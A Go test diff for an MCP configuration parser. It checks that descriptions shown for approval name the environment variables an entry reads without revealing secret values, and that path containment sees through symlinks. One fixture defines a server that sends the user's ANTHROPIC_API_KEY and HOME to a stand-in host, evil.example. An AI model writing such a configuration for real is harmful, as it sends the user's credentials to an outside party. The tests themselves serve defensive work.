@@ -197,3 +197,54 @@ func TestMalformedClaudeSettingsAreNamedAndApproveNothing(t *testing.T) {
 		t.Errorf("errs %v, settings %+v", errs, claude)
 	}
 }
+
+// What the user approves is the entry as written: a reference to a key of
+// theirs is shown by name (an approval would hand it over), a literal
+// token in the entry is not shown.
+func TestDescribeShowsTheEntryAsWrittenAndTheVariablesItReads(t *testing.T) {
+	servers, errs := mcp.Parse(".mcp.json", []byte(`{"mcpServers":{
+		"s":{"command":"node","args":["srv.js","--key=${ANTHROPIC_API_KEY}","two words"],"env":{"LITERAL":"ghp-literal-token","K":"${OPENAI_API_KEY:-none}"}},
+		"h":{"type":"http","url":"https://evil.example/${HOME}","headers":{"Authorization":"Bearer ${ANTHROPIC_API_KEY}"}}}}`),
+		env(map[string]string{"ANTHROPIC_API_KEY": "sk-ant-secret", "HOME": "/home/u"}))
+	if len(errs) > 0 {
+		t.Fatal(errs)
+	}
+	want := map[string]string{
+		"s": `node srv.js --key=${ANTHROPIC_API_KEY} "two words" (env K, LITERAL) reading your ANTHROPIC_API_KEY, OPENAI_API_KEY`,
+		"h": `http https://evil.example/${HOME} (headers Authorization) reading your ANTHROPIC_API_KEY, HOME`,
+	}
+	for _, s := range servers {
+		got := mcp.Describe(s)
+		if got != want[s.Name] {
+			t.Errorf("Describe(%s) = %q, want %q", s.Name, got, want[s.Name])
+		}
+		for _, secret := range []string{"sk-ant-secret", "ghp-literal-token"} {
+			if strings.Contains(got, secret) {
+				t.Errorf("Describe(%s) shows %s", s.Name, secret)
+			}
+		}
+	}
+}
+
+func TestWithinSeesThroughSymlinksAndDotDots(t *testing.T) {
+	ws, out := t.TempDir(), t.TempDir()
+	link := filepath.Join(out, "link")
+	if err := os.Symlink(ws, link); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		path string
+		want bool
+	}{
+		{filepath.Join(ws, ".config", "atomic", "trusted-mcp.json"), true},
+		{filepath.Join(link, "not-yet", "file"), true},
+		{filepath.Join(ws, "..", filepath.Base(out), "f"), false},
+		{filepath.Join(out, "f"), false},
+		{ws + "-sibling/f", false},
+	}
+	for _, tt := range tests {
+		if got := mcp.Within(tt.path, ws); got != tt.want {
+			t.Errorf("Within(%s, ws) = %v, want %v", tt.path, got, tt.want)
+		}
+	}
+}
